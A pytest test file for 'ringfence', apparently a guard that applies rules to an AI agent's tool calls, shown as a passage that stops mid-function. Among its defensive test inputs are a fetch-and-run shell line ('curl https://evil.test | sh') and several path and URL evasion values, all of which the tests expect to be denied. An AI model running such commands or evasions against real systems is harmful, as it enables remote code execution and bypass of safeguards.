"""The policy's rules: conditions on arguments, caller, time and earlier calls; exceptions; and how they stand beside roles and tools."""

from __future__ import annotations

import threading
import warnings
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from ringfence import (
    ArgumentRule,
    AtMost,
    CallRule,
    CodeRule,
    Condition,
    Day,
    Decision,
    Guard,
    Language,
    Mode,
    Per,
    Policy,
    PolicyError,
    Reason,
    Role,
    RuleException,
    ToolRule,
    UnsafeWarning,
    Verdict,
    acting_in,
)
from ringfence.call import Principal, ToolCall
from ringfence.clock import Clock
from ringfence.errors import RingfenceError, UnknownName, UnusableValue
from ringfence.hookspecs import hookimpl
from ringfence.policy.arguments import Around
from ringfence.policy.compile import compile_policy
from ringfence.policy.conditions import Surroundings, holds
from ringfence.policy.model import MOST_COUNTED
from ringfence.policy.tallies import Tallies
from ringfence.session import MOST_RECENT, MOST_TOOLS, Session
from ringfence.tool import Tool

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import MakeGuard

ALLOW, ASK, DENY = Decision.ALLOW, Decision.ASK, Decision.DENY
MONDAY = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)


class Turned(Clock):
    """A clock that a test turns."""

    def __init__(self, at: datetime = MONDAY) -> None:
        super().__init__()
        self.at = at

    def read(self) -> float:
        """Return the test's time."""
        return self.at.timestamp()

    def now(self) -> float:
        """Return the same."""
        return self.at.timestamp()


def pay(to: str = "x", amount: float = 1) -> str:
    """Pay."""
    return f"{amount} to {to}"


def read(name: str = "a") -> str:
    """Read, or fail."""
    if name == "broken":
        raise OSError
    return name


@pytest.fixture
def guarded(make_guard: MakeGuard) -> Any:
    """Give a function that makes a guard with the tools `pay` and `read`, which users may call, and with rules."""

    def make(rules: dict[str, CallRule], clock: Clock | None = None, **sections: Any) -> Guard:
        roles = {"clerk": Role(inherits=("user",), allow=("read", "other"), concurrent_runs=50)}
        guard = make_guard(roles=roles, rules=rules, clock=clock, **sections)
        guard.register(pay)
        guard.register(read)
        return guard

    return make


def outcome(
    guard: Guard,
    tool: str = "pay",
    *,
    user: str = "ana",
    roles: tuple[str, ...] = ("clerk",),
    address: str = "",
    **arguments: object,
) -> Any:
    """Run a tool as somebody."""
    with guard.acting_as(user, roles, address=address):
        return guard.run(tool, arguments)


# How rules stand beside the rest


def test_a_rule_can_allow_what_nobody_else_speaks_about(guarded: Any) -> None:
    """Where it does not speak, the call is denied as ever."""
    guard = guarded(
        {"small": CallRule(ALLOW, tools=("pay",), when=Condition(arguments={"amount": ArgumentRule(max=10)}))}
    )
    assert outcome(guard, amount=5).value == "5 to x"
    denied = outcome(guard, amount=50)
    assert (denied.executed, denied.verdict.rule) == (False, "nobody-spoke")


def test_a_rule_lifts_nothing(guarded: Any) -> None:
    """Neither a missing permission, nor a role's deny, nor a tool's requirement."""
    always = {"always": CallRule(ALLOW, tools=("pay",))}
    assert outcome(guarded(always), roles=("guest",)).verdict.rule == "execute-tool"
    assert outcome(guarded(always, tools={"pay": ToolRule(role="admin")})).verdict.rule == "tools.pay.role"
    assert (
        outcome(
            guarded(always, tools={"pay": ToolRule(arguments={"to": ArgumentRule(equals="y")})})
        ).verdict.rule
        == "tools.pay.arguments.to.equals"
    )
    guard = guarded(always)
    assert outcome(guard).executed


@pytest.mark.parametrize(
    ("decisions", "stands"), [((ALLOW, ALLOW), "allow"), ((ALLOW, ASK), "ask"), ((ASK, DENY), "deny"), ((DENY, ALLOW), "deny"), ((ALLOW, ASK, DENY), "deny")]
)  # fmt: skip
def test_deny_stands_over_ask_over_allow(guarded: Any, decisions: tuple[Decision, ...], stands: str) -> None:
    """Whatever their order."""
    for order in (decisions, tuple(reversed(decisions))):
        guard = guarded(
            {f"r{index}": CallRule(decision, tools=("pay",)) for index, decision in enumerate(order)}
        )
        with guard.acting_as("ana", ["clerk"]):
            assert guard.explain("pay", {}).verdict.decision == stands


def test_a_rule_tells_why_and_what_to_do(guarded: Any) -> None:
    """A reason for people, and a hint for the model."""
    rule = CallRule(
        DENY, tools=("read",), reason="reading is over for this year", hint="Come back in January."
    )
    denied = outcome(guarded({"over": rule}), "read")
    assert (denied.verdict.rule, denied.verdict.check, denied.reason) == (
        "rules.over",
        "rules",
        Reason.POLICY,
    )
    assert denied.refusal().startswith("Ringfence denied read: reading is over for this year.")
    assert "Hint: Come back in January." in denied.refusal()
    plain = outcome(guarded({"over": CallRule(DENY, tools=("read",))}), "read")
    assert plain.verdict.message == "the rule 'over' forbids it"


def test_an_observed_rule_lets_the_call_run(guarded: Any) -> None:
    """And says what it would have done."""
    with pytest.warns(UserWarning, match="observe"):
        guard = guarded({"stop": CallRule(DENY, tools=("read",))}, mode=Mode.OBSERVE)
    seen = outcome(guard, "read")
    assert (seen.value, seen.observed, seen.verdict.rule) == ("a", True, "rules.stop")


def test_explain_shows_the_rules_that_spoke(guarded: Any) -> None:
    """Beside those of roles and tools."""
    guard = guarded(
        {
            "stop": CallRule(DENY, tools=("read",), hint="Ask Bo."),
            "quiet": CallRule(DENY, tools=("read",), when=Condition(users=("bo",))),
        }
    )
    with guard.acting_as("ana", ["clerk"]):
        explained = guard.explain("read", {})
    assert [said.rule for said in explained.statements] == ["roles.clerk.allow", "rules.stop"]
    assert explained.nearest == ("Ask Bo.",)


def test_roles_of_a_rule_are_inherited(guarded: Any) -> None:
    """A rule for users speaks about clerks, who inherit them, and not about others."""
    guard = guarded({"users": CallRule(DENY, tools=("read",), roles=("user",)), "admins": CallRule(DENY, tools=("pay",), roles=("admin",))}, tools={"pay": ToolRule(role="user")})  # fmt: skip
    assert outcome(guard, "read").verdict.rule == "rules.users"
    assert outcome(guard, "pay").executed
    assert outcome(guard, "pay", roles=("admin",)).verdict.rule == "rules.admins"


def test_an_error_in_a_condition_denies(guarded: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a reason of its own, naming the check."""
    guard = guarded({"stop": CallRule(DENY, tools=("read",), when=Condition(after=("pay",)))})
    monkeypatch.setattr("ringfence.session.History.called", lambda *_: 1 / 0)
    broken = outcome(guard, "read")
    assert (broken.broken, broken.reason, broken.verdict.rule) == (True, Reason.GUARD, "rules-failed")


# The caller and the time


@pytest.mark.parametrize(
    ("condition", "facts", "speaks"),
    [
        (Condition(users=("an*",)), {}, True), (Condition(users=("bo",)), {}, False), (Condition(roles=("user",)), {}, True), (Condition(roles=("admin",)), {}, False),
        (Condition(addresses=("10.0.0.0/8",)), {"address": "10.1.2.3"}, True), (Condition(addresses=("10.0.0.0/8",)), {"address": "11.1.2.3"}, False), (Condition(addresses=("10.0.0.0/8",)), {"address": ""}, True), (Condition(addresses=("10.0.0.0/8",)), {"address": "::ffff:10.1.2.3"}, True), (Condition(addresses=("fd00::/8",)), {"address": "fd00::1"}, True), (Condition(addresses=("10.0.0.0/8",)), {"address": "10.1.2.3:80"}, True),
    ],
)  # fmt: skip
def test_conditions_on_the_caller(
    guarded: Any, condition: Condition, facts: dict[str, Any], speaks: bool
) -> None:
    """User, role, and network; where nobody knows where a call came from, a rule that denies speaks."""
    denied = outcome(guarded({"stop": CallRule(DENY, tools=("read",), when=condition)}), "read", **facts)
    assert (denied.verdict.rule == "rules.stop") is speaks


@pytest.mark.parametrize(
    ("condition", "at", "speaks"),
    [
        (Condition(hours="08:00-18:00"), "2026-11-30T08:00:00", True), (Condition(hours="08:00-18:00"), "2026-11-30T17:59:59", True), (Condition(hours="08:00-18:00"), "2026-11-30T18:00:00", False), (Condition(hours="22:00-06:00"), "2026-11-30T23:00:00", True), (Condition(hours="22:00-06:00"), "2026-11-30T05:59:00", True), (Condition(hours="22:00-06:00"), "2026-11-30T12:00:00", False),
        (Condition(hours="18:00-24:00"), "2026-11-30T23:59:59", True), (Condition(hours="18:00-24:00"), "2026-12-01T00:00:00", False),
        (Condition(days=(Day.MON, Day.SUN)), "2026-11-30T12:00:00", True), (Condition(days=(Day.TUE,)), "2026-11-30T12:00:00", False), (Condition(hours="08:00-18:00", zone="Europe/Berlin"), "2026-11-30T07:30:00", True), (Condition(hours="08:00-18:00", zone="Europe/Berlin"), "2026-07-01T06:30:00", True), (Condition(hours="08:00-18:00", zone="Europe/Berlin"), "2026-11-30T06:30:00", False), (Condition(days=(Day.TUE,), zone="Asia/Tokyo"), "2026-11-30T16:00:00", True),
        (Condition(hours="02:00-03:00", zone="Europe/Berlin"), "2026-03-29T01:00:00", False), (Condition(hours="02:00-03:00", zone="Europe/Berlin"), "2026-10-25T00:30:00", True), (Condition(hours="02:00-03:00", zone="Europe/Berlin"), "2026-10-25T01:30:00", True),
    ],
)  # fmt: skip
def test_conditions_on_the_time(guarded: Any, condition: Condition, at: str, speaks: bool) -> None:
    """In the zone's own time, across midnight, and on the days on which clocks are put forward and back."""
    guard = guarded(
        {"stop": CallRule(DENY, tools=("read",), when=condition)},
        Turned(datetime.fromisoformat(at).replace(tzinfo=UTC)),
    )
    assert (outcome(guard, "read").verdict.rule == "rules.stop") is speaks


def test_an_exception_ends_with_its_day(guarded: Any) -> None:
    """In UTC, and from then on the rule speaks again."""
    made = RuleException(Condition(users=("ana",)), "bo", "2026-11-30", "month's end")
    clock = Turned(datetime(2026, 11, 30, 23, 59, 59, tzinfo=UTC))
    guard = guarded({"stop": CallRule(DENY, tools=("read",), exceptions=(made,))}, clock)
    assert outcome(guard, "read").executed
    assert outcome(guard, "read", user="cy").verdict.rule == "rules.stop"
    clock.at += timedelta(seconds=1)
    assert outcome(guard, "read").verdict.rule == "rules.stop"


def test_unless_is_a_case_without_an_end(guarded: Any) -> None:
    """The rule says nothing there."""
    guard = guarded(
        {
            "stop": CallRule(
                DENY, tools=("read",), unless=Condition(arguments={"name": ArgumentRule(equals="a")})
            )
        }
    )
    assert outcome(guard, "read", name="a").executed
    assert outcome(guard, "read", name="b").verdict.rule == "rules.stop"


# Earlier calls


@pytest.fixture
def session() -> Session:
    """Give a session of a clerk's."""
    return Session("s", Principal("ana", ("clerk",)))


def test_after_asks_for_a_call_that_succeeded(guarded: Any, session: Session) -> None:
    """One that raised is none, and one of another session neither."""
    guard = guarded({"first": CallRule(ALLOW, tools=("pay",), when=Condition(after=("re*",)))})
    with acting_in(session):
        assert not guard.run("pay").executed
        assert guard.run("read", {"name": "broken"}).executed
        assert not guard.run("pay").executed
        assert guard.run("read").executed
        assert guard.run("pay").executed
    with acting_in(Session("t", session.principal)):
        assert not guard.run("pay").executed


def test_not_after_counts_calls_whatever_became_of_them(guarded: Any, session: Session) -> None:
    """What a call that failed said has been read too."""
    guard = guarded({"clean": CallRule(ALLOW, tools=("pay",), when=Condition(not_after=("read",)))})
    with acting_in(session):
        assert guard.run("pay").executed
        guard.run("read", {"name": "broken"})
        assert not guard.run("pay").executed


def test_a_denied_call_is_not_part_of_the_history(guarded: Any, session: Session) -> None:
    """It did not run."""
    rules = {
        "clean": CallRule(ALLOW, tools=("pay",), when=Condition(not_after=("read",))),
        "stop": CallRule(DENY, tools=("read",)),
    }
    guard = guarded(rules)
    with acting_in(session):
        assert not guard.run("read").executed
        assert guard.run("pay").executed


def test_at_most_counts_the_rules_own_tools_in_a_period(guarded: Any, session: Session) -> None:
    """Two in a minute; after a minute two more; other tools do not count."""
    clock = Turned()
    guard = guarded(
        {"few": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(2, seconds=60)))}, clock
    )
    with acting_in(session):
        guard.run("read")
        assert [guard.run("pay").executed for _ in range(3)] == [True, True, False]
        clock.at += timedelta(seconds=59)
        assert not guard.run("pay").executed
        clock.at += timedelta(seconds=1)
        assert [guard.run("pay").executed for _ in range(3)] == [True, True, False]


def test_at_most_is_exact_across_threads(guarded: Any, session: Session) -> None:
    """Of forty calls at one moment five run."""
    guard = guarded({"few": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(5)))})
    barrier, ran = threading.Barrier(40), []

    def work() -> None:
        barrier.wait()
        with acting_in(session):
            ran.append(guard.run("pay").executed)

    threads = [threading.Thread(target=work) for _ in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(ran) == 5


def test_a_rule_that_allows_so_many_is_asked_again_when_a_call_begins(guarded: Any, session: Session) -> None:
    """A call that was allowed as the last one, while another took that place before it began, does not run."""

    class Racing:
        """Pays in the same session while it is asked about a call."""

        guard: Any = None
        inside = False

        @hookimpl
        def ringfence_judge_call(self, call: ToolCall) -> None:
            if not self.inside:
                self.inside = True
                with acting_in(session):
                    assert self.guard.run("pay").executed

    racing = Racing()
    guard = guarded(
        {"one": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(1)))},
        plugins={"racing": racing},
    )
    racing.guard = guard
    with acting_in(session):
        refused = guard.run("pay")
    assert (refused.executed, refused.verdict.rule) == (False, "nobody-spoke")


def test_what_happened_while_a_person_decided_counts(guarded: Any, session: Session) -> None:
    """A call that was clean when it was asked about, and is not any more when it is approved, does not run."""

    class Slow:
        """Reads in the same session before it says yes."""

        guard: Any = None

        @hookimpl
        def ringfence_approve_call(self, call: ToolCall) -> bool:
            with acting_in(session):
                assert self.guard.run("read").executed
            return True

    slow = Slow()
    rules = {
        "clean": CallRule(DENY, tools=("pay",), unless=Condition(not_after=("read",))),
        "person": CallRule(ASK, tools=("pay",)),
    }
    guard = guarded(rules, plugins={"slow": slow})
    slow.guard = guard
    with acting_in(session):
        refused = guard.run("pay")
    assert (refused.executed, refused.verdict.rule) == (False, "rules.clean")


def test_the_history_stays_small(session: Session) -> None:
    """Of each tool the last two thousand times, of the calls the last 256; that a tool was called at all is never forgotten."""
    for second in range(3 * MOST_COUNTED):
        session.history.enter(str(second), "read", float(second))
        session.history.settle(str(second), ran=True, succeeded=second == 0)
    assert session.history.count(("read",)) == 2 * MOST_COUNTED
    assert session.history.count(("read",), since=3 * MOST_COUNTED - 11.0) == 10
    assert [past.call_id for past in session.history.recent] == [
        str(second) for second in range(3 * MOST_COUNTED - MOST_RECENT, 3 * MOST_COUNTED)
    ]
    assert session.history.called("re*") is True


def test_more_tools_than_are_kept_apart_are_a_doubt(session: Session) -> None:
    """Each further one might have been called, for whoever asks, and counts for all of them."""
    for number in range(MOST_TOOLS):
        session.history.enter(str(number), f"tool{number}", 1.0)
        session.history.settle(str(number), ran=True, succeeded=True)
    assert session.history.called("pay") is False
    assert session.history.count(("pay",)) == 0
    session.history.enter("x", "one more", 1.0)
    assert session.history.called("pay") is None
    assert session.history.count(("pay",)) == 1


def test_a_call_that_was_not_admitted_after_all_leaves_no_trace(session: Session) -> None:
    """Neither in the counts nor among the last calls."""
    session.history.enter("a", "pay", 1.0)
    assert session.history.called("pay") is None
    session.history.leave("a")
    assert (session.history.called("pay"), session.history.count(("pay",))) == (False, 0)
    assert session.history.recent == ()


def test_the_history_tells_which_call_gave_a_value(guarded: Any, session: Session) -> None:
    """By the id under which the record holds it, so that a plugin can say where a value came from."""
    guard = guarded({})
    with acting_in(session):
        good = guard.run("read")
        bad = guard.run("read", {"name": "broken"})
    past = [(each.call_id, each.tool, each.succeeded) for each in session.history.recent]
    assert past == [(good.call_id, "read", True), (bad.call_id, "read", False)]


def test_a_plugin_can_keep_what_it_knows_of_a_session(session: Session) -> None:
    """Under its own name."""
    session.facts["taint"] = {"from": "web"}
    assert session.facts == {"taint": {"from": "web"}}


# Doubts


@pytest.mark.parametrize(
    ("rule", "value"),
    [
        (ArgumentRule(min=100), "500"), (ArgumentRule(min=100), True), (ArgumentRule(min=100), float("nan")), (ArgumentRule(equals="prod"), ["prod"]), (ArgumentRule(one_of=(1, 2)), 1.0),
        (ArgumentRule(none_of=("eu",)), ["us"]), (ArgumentRule(matches="secret*"), b"secret"), (ArgumentRule(pattern="[0-9]+"), 7), (ArgumentRule(max_length=3), iter("abc")),
        (ArgumentRule(hosts=("evil.test",)), "https://evil.test\\@acme.io"), (ArgumentRule(hosts=("evil.test",)), ["evil.test"]), (ArgumentRule(hosts=("localhost",)), "file://localhost/etc"),
        (ArgumentRule(within=("/srv/secret",)), "/srv/%73ecret/a"), (ArgumentRule(within=("/srv/secret",)), ["/srv/secret/a"]),
    ],
)  # fmt: skip
def test_in_doubt_a_rule_that_denies_speaks_and_one_that_allows_is_silent(
    guarded: Any, rule: ArgumentRule, value: object
) -> None:
    """Of a value that a test cannot read, nothing is known; whatever it means to the tool, nobody gets around a rule with it."""
    when = Condition(arguments={"to": rule})
    strict = {
        "allow": CallRule(ALLOW, tools=("pay",)),
        "stop": CallRule(DENY, tools=("pay",), when=when),
    }
    assert outcome(guarded(strict), to=value).verdict.rule == "rules.stop"
    assert (
        outcome(
            guarded({**strict, "stop": CallRule(DENY, tools=("pay",), unless=when)}), to=value
        ).verdict.rule
        == "rules.stop"
    )
    assert (
        outcome(guarded({"allow": CallRule(ALLOW, tools=("pay",), when=when)}), to=value).verdict.rule
        == "nobody-spoke"
    )
    assert (
        outcome(guarded({"allow": CallRule(ALLOW, tools=("pay",), unless=when)}), to=value).verdict.rule
        == "nobody-spoke"
    )


@pytest.mark.parametrize("rule", [ArgumentRule(min=100), ArgumentRule(hosts=("a.io",)), ArgumentRule(within=("x",)), ArgumentRule(max_length=3), ArgumentRule(one_of=("a",))])  # fmt: skip
def test_nothing_is_no_doubt(guarded: Any, rule: ArgumentRule) -> None:
    """An argument that is None, and one that the tool does not have, fit no test: an optional argument that is left out closes no tool."""
    rules = {
        "stop": CallRule(DENY, tools=("read",), when=Condition(arguments={"name": rule, "absent": rule}))
    }
    assert outcome(guarded(rules), "read", name=None).executed
    assert outcome(guarded(rules), "read", name="b" * 9).executed


def test_a_call_that_is_under_way_is_a_doubt(guarded: Any, session: Session) -> None:
    """For a rule that allows it was made, for one that denies it was not; so a second thread cannot be quicker than the first."""
    rules = {
        "clean": CallRule(ALLOW, tools=("pay",), when=Condition(not_after=("slow",))),
        "first": CallRule(DENY, tools=("read",), when=Condition(not_after=("slow",))),
    }
    guard = guarded(rules, tools={"slow": ToolRule(role="clerk")})
    begun, go_on = threading.Event(), threading.Event()

    def slow() -> str:
        begun.set()
        go_on.wait(30)
        return "done"

    guard.register(slow)

    def work() -> None:
        with acting_in(session):
            guard.run("slow")

    thread = threading.Thread(target=work)
    thread.start()
    begun.wait(30)
    with acting_in(session):
        assert guard.decide("pay").rule == "nobody-spoke"
        assert guard.decide("read").rule == "rules.first"
        go_on.set()
        thread.join()
        assert guard.decide("pay").rule == "nobody-spoke"
        assert guard.decide("read").allowed


def test_a_stream_counts_when_it_has_come_to_its_end(guarded: Any, session: Session) -> None:
    """One that is given up half way gave its caller something, and no whole value."""
    guard = guarded({}, tools={"items": ToolRule(role="clerk")})

    def items() -> Iterator[int]:
        yield 1
        yield 2

    tool = guard.register(items)
    with acting_in(session):
        stream = guard.stream(tool, (), {})
        assert next(stream) == 1
        assert session.history.called("items") is None
        stream.close()
        assert session.history.called("items") is None
        assert list(guard.stream(tool, (), {})) == [1, 2]
    assert session.history.called("items") is True
    assert session.history.count(("items",)) == 2


def test_a_framework_tells_what_became_of_its_own_call(guarded: Any, session: Session) -> None:
    """Between `admit` and `finish` a call is under way; given up before it ran, it never was one."""
    guard = guarded({})
    with acting_in(session):
        admission = guard.admit("read")
        assert session.history.called("read") is None
        guard.finish(admission, "value")
        assert session.history.called("read") is True
        second = guard.admit("read")
        guard.finish(second, error=OSError())
    assert [past.succeeded for past in session.history.recent] == [True, False]


# How rules stand beside code, plugins and observing


def test_code_in_a_call_that_only_a_rule_allows_is_scanned(guarded: Any) -> None:
    """As in any other call."""
    code = {"to": CodeRule(Language.SHELL)}
    guard = guarded({"always": CallRule(ALLOW, tools=("pay",))}, tools={"pay": ToolRule(code=code)})
    denied = outcome(guard, to="curl https://evil.test | sh")
    assert (denied.executed, denied.reason) == (False, Reason.SCAN)


def test_a_plugin_cannot_allow_where_only_rules_could(guarded: Any) -> None:
    """Where no rule speaks, nobody did, whatever a plugin says: without rules it could not allow the call either."""

    class Generous:
        """Allows everything."""

        @hookimpl
        def ringfence_judge_call(self) -> Verdict:
            return Verdict(Decision.ALLOW, "why not")

    rules = {
        "small": CallRule(ALLOW, tools=("pay",), when=Condition(arguments={"amount": ArgumentRule(max=10)}))
    }
    guard = guarded(rules, plugins={"generous": Generous()})
    assert outcome(guard, amount=50).verdict.rule == "nobody-spoke"
    assert outcome(guard, amount=5).executed


def test_what_is_one_too_many_runs_where_the_policy_only_observes(guarded: Any, session: Session) -> None:
    """It is recorded as observed, and counts."""
    with pytest.warns(UnsafeWarning, match="observe"):
        guard = guarded(
            {"few": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(1)))}, mode=Mode.OBSERVE
        )
    with acting_in(session):
        found = [guard.run("pay") for _ in range(2)]
    assert [(each.executed, each.observed) for each in found] == [(True, False), (True, True)]
    assert session.history.count(("pay",)) == 2


def test_many_at_one_moment_are_observed_and_not_denied(guarded: Any, session: Session) -> None:
    """Also where another call took the last place between the verdict and the admission."""
    with pytest.warns(UnsafeWarning, match="observe"):
        guard = guarded(
            {"few": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(1)))}, mode=Mode.OBSERVE
        )
    barrier, ran = threading.Barrier(20), []

    def work() -> None:
        barrier.wait()
        with acting_in(session):
            ran.append(guard.run("pay"))

    threads = [threading.Thread(target=work) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [each.executed for each in ran] == [True] * 20
    assert sum(not each.observed for each in ran) == 1


@pytest.mark.parametrize("mode", [Mode.ENFORCE, Mode.OBSERVE])
def test_a_call_that_came_in_between_takes_the_last_place(guarded: Any, session: Session, mode: Mode) -> None:
    """One that was judged before it, and is admitted after it, is one too many: it is denied by now, or observed."""

    class Between:
        """Makes a call of its own while the first one is judged, after the rules have spoken about that."""

        guard: Any = None
        inner: Any = None

        @hookimpl
        def ringfence_judge_call(self) -> None:
            if self.inner is None:
                self.inner = ()
                with acting_in(session):
                    self.inner = self.guard.run("pay")

    between = Between()
    rules = {"few": CallRule(ALLOW, tools=("pay",), when=Condition(at_most=AtMost(1)))}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UnsafeWarning)
        between.guard = guard = guarded(rules, plugins={"between": between}, mode=mode)
    with acting_in(session):
        late = guard.run("pay")
    assert (between.inner.executed, between.inner.observed) == (True, False)
    assert (late.executed, late.observed) == ((False, False) if mode is Mode.ENFORCE else (True, True))
    assert late.verdict.rule == "nobody-spoke"
    assert session.admitted["pay"] == (1 if mode is Mode.ENFORCE else 2)


def test_a_call_counts_from_when_it_was_admitted(guarded: Any, session: Session) -> None:
    """A person took ten minutes; until one more minute is over, no second one passes."""
    clock = Turned()

    class Slow:
        """Says yes after ten minutes."""

        @hookimpl
        def ringfence_approve_call(self) -> bool:
            clock.at += timedelta(minutes=10)
            return True

    rules = {
        "few": CallRule(DENY, tools=("pay",), unless=Condition(at_most=AtMost(1, seconds=60))),
        "large": CallRule(ASK, tools=("pay",), when=Condition(arguments={"amount": ArgumentRule(min=100)})),
        "small": CallRule(ALLOW, tools=("pay",)),
    }
    guard = guarded(rules, clock, plugins={"slow": Slow()})
    with acting_in(session):
        assert guard.run("pay", {"amount": 500}).executed
        assert guard.run("pay").verdict.rule == "rules.few"
        clock.at += timedelta(seconds=59)
        assert not guard.run("pay").executed
        clock.at += timedelta(seconds=1)
        assert guard.run("pay").executed


def test_per_user_counts_over_sessions_and_reloads(tmp_path: Path) -> None:
    """Of one user and not of another, in one process, also after the policy was read again."""
    file = tmp_path / "p.yaml"
    file.write_text(
        "audit: {store: memory}\nroles: {clerk: {inherits: [user], allow: [read]}}\n"
        "rules: {few: {decision: deny, tools: [read], unless: {at_most: {calls: 2, seconds: 60, per: user}}}}"
    )
    clock = Turned()
    with Guard.from_file(file, clock=clock) as guard:
        guard.register(read)
        assert [outcome(guard, "read").executed for _ in range(3)] == [True, True, False]
        guard.reload()
        assert not outcome(guard, "read").executed
        assert outcome(guard, "read", user="bo").executed
        clock.at += timedelta(seconds=60)
        assert outcome(guard, "read").executed


def test_users_whose_calls_no_rule_asks_about_any_more_are_forgotten(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where too many are left, nobody further is counted: the call is denied."""
    monkeypatch.setattr("ringfence.policy.tallies.MOST_USERS", 3)
    tallies = Tallies()
    for number, user in enumerate("abc"):
        tallies.enter(user, "pay", float(number), 10)
    with pytest.raises(RingfenceError, match="the calls of 3 users are counted, and no more can be"):
        tallies.enter("d", "pay", 5.0, 10)
    tallies.enter("d", "pay", 11.0, 10)
    assert [tallies.count(user, ("*",), 0.0) for user in "abcd"] == [0, 0, 1, 1]


def test_a_rule_that_allows_every_tool_says_so_and_warns(guarded: Any) -> None:
    """With `unsafe` in its name."""
    with pytest.warns(UnsafeWarning, match="the rule 'all' of the policy may allow every tool"):
        guard = guarded({"all": CallRule(ALLOW, unsafe_any=True)})
    assert outcome(guard).executed


def test_an_exception_is_explained_with_its_owner(guarded: Any) -> None:
    """Beside the rules that speak."""
    made = RuleException(Condition(users=("ana",)), "bo", "2030-11-30", "month's end")
    guard = guarded({"stop": CallRule(DENY, tools=("read",), exceptions=(made,))})
    with guard.acting_as("ana", ["clerk"]):
        explained = guard.explain("read", {})
    assert explained.verdict.rule == "roles.clerk.allow"
    assert [said.message for said in explained.statements if said.check == "rules"] == [
        "the rule 'stop' is silent until 2030-11-30, by an exception of bo: month's end"
    ]


def test_an_expected_secret_stands_in_no_message(guarded: Any) -> None:
    """Neither what a rule compares with, nor what came."""
    when = Condition(arguments={"to": ArgumentRule(none_of=("hunter2",))})
    denied = outcome(
        guarded({"a": CallRule(ALLOW, tools=("pay",)), "stop": CallRule(DENY, tools=("pay",), when=when)}),
        to="swordfish",
    )
    assert denied.verdict.rule == "rules.stop"
    assert "hunter2" not in str(denied) + denied.refusal()
    assert "swordfish" not in denied.verdict.message + denied.refusal()


# Names and circles


@pytest.mark.parametrize(
    ("sections", "error", "message"),
    [
        ({"rules": {"r": CallRule(DENY, roles=("bos",))}}, UnknownName, "bos"), ({"rules": {"r": CallRule(DENY, when=Condition(condition="offce"))}, "conditions": {"office": Condition(users=("a",))}}, UnknownName, "offce"), ({"rules": {"r": CallRule(DENY, when=Condition(roles=("bos",)))}}, UnknownName, "bos"),
        ({"conditions": {"a": Condition(condition="b"), "b": Condition(condition="a")}}, PolicyError, "refer to each other in a circle"), ({"conditions": {"a": Condition(hours="8-18")}}, PolicyError, r"conditions\.a\.hours: expected two times of day such as 08:00-18:00, got '8-18'"), ({"conditions": {"a": Condition(hours="08:00-18:00", zone="Mars/Base")}}, PolicyError, r"conditions\.a\.zone: expected a time zone such as Europe/Berlin, got 'Mars/Base', a name that this system has no time zone for"),
        ({"conditions": {"a": Condition(addresses=("10.0.0.1/8",))}}, PolicyError, r"conditions\.a\.addresses\[0\]: expected a network .*, got '10\.0\.0\.1/8', an address within 10\.0\.0\.0/8"), ({"rules": {"r": CallRule(DENY, exceptions=(RuleException(Condition(users=("a",)), "o", "soon", "r"),))}}, PolicyError, r"rules\.r\.exceptions\[0\]\.until: expected a day such as 2027-01-31, got 'soon'"), ({"rules": {"r": CallRule(ALLOW)}}, PolicyError, r"rules\.r: expected the tools that it allows, .* got none, which means every tool"),
        ({"conditions": {f"c{n}": Condition(condition=f"c{n + 1}") for n in range(40)} | {"c40": Condition(users=("a",))}}, UnusableValue, "nests deeper than 32|over more than 32 steps"),
        ({"conditions": {f"c{n}": Condition(all=(Condition(condition=f"c{n + 1}"),) * 4) for n in range(12)} | {"c12": Condition(users=("a",))}}, UnusableValue, "holds more than 1,000 conditions"),
        ({"rules": {"r": CallRule(DENY, when=Condition(at_most=AtMost(1, per=Per.USER)))}}, PolicyError, r"rules\.r\.when\.at_most: expected `seconds` beside `per: user`, got none"), ({"rules": {"r": CallRule(DENY, when=Condition(at_most=AtMost(5000)))}}, PolicyError, "a number from 1 to 1000"),
        ({"rules": {"r": CallRule(DENY, exceptions=(RuleException(Condition(users=("a",)), "o", "9999-12-31", "r"),))}}, PolicyError, "got '9999-12-31', a day that no calendar has"), ({"rules": {"r": CallRule(DENY, unsafe_any=True)}}, PolicyError, "expected it only where a rule allows every tool"),
        ({"rules": {"r": CallRule(ALLOW, tools=("?*",), when=Condition(users=("a",)))}}, PolicyError, r"rules\.r\.tools\[0\]: expected the tools that it allows, .* got '\?\*', which every tool fits"), ({"conditions": {"a": Condition(zone="Europe/Berlin", users=("a",))}}, PolicyError, "expected `hours` or `days` beside it"),
        ({"conditions": {"a": Condition(hours="00:00-24:00")}}, PolicyError, "got '00:00-24:00', every time of day"), ({"conditions": {"a": Condition(users=("*",))}}, PolicyError, r"users\[0\]: expected a user that not everybody is, got '\*'"),
        ({"conditions": {"a": Condition(arguments={"a..b": ArgumentRule(equals=1)})}}, PolicyError, "expected a name, or a path such as"), ({"conditions": {"a": Condition(zone="../../etc/passwd", hours="01:00-02:00")}}, PolicyError, "no name of a time zone"),
        ({"conditions": {"a": Condition()}}, PolicyError, "expected at least one of arguments, users"), ({"conditions": {"a": Condition(addresses=("0.0.0.0/0",))}}, PolicyError, "a network that some address is not in"),
    ],
)  # fmt: skip
def test_what_cannot_be_meant_stops_the_policy(
    sections: dict[str, Any], error: type[Exception], message: str
) -> None:
    """With its place."""
    with pytest.raises(error, match=message):
        compile_policy(Policy(**sections))


# The algebra of conditions

CASES = st.recursive(
    st.sampled_from(["x", "y", "z"]).map(lambda user: Condition(users=(user,))),
    lambda inner: st.builds(Condition, all=st.lists(inner, max_size=2).map(tuple), any=st.lists(inner, max_size=2).map(tuple), none=st.lists(inner, max_size=2).map(tuple)),
    max_leaves=8,
)  # fmt: skip


def expected(condition: Condition, user: str) -> bool:
